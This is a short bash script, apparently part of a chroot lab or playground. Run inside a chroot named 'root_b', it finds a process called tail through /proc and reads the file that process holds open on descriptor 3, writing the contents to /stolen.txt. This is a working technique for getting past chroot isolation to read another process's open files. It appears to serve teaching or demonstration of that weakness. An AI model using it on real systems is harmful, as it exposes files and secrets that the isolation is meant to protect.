#!/bin/bash
# In root_b: looks for a process called tail and reads the file that it holds open as fd 3.
# Nothing but /proc is needed. What was read is kept in /stolen.txt.
[ "$(cat /etc/debian_chroot 2>/dev/null)" = root_b ] || {
  echo "this belongs into root_b: ./attach.sh on the host, ./chroot_b.sh in the playground, and then this" >&2
  exit 1
}
for comm in /proc/[0-9]*/comm; do
  if { read -r name < "$comm"; } 2>/dev/null && [ "$name" = tail ]; then
    pid=${comm//[!0-9]/}
  fi
done

: > /stolen.txt
if [ -z "${pid:-}" ]; then
  echo "there is no process called tail here"
  exit 1
fi
echo "tail is process $pid, and holds open: $(readlink "/proc/$pid/fd/3")"
cat "/proc/$pid/fd/3" | tee /stolen.txt
